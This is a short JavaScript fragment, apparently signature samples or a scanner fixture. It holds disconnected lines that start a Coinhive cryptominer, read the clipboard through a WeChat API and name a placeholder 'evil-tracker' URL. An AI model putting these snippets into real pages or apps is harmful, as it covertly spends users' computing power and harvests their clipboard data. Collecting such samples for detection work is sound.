var m = new coinhive.Anonymous('k')
miner.startMiner()
wx.getClipboardData()
var u = 'https://evil-tracker.example/p'
var z = window.coinhive
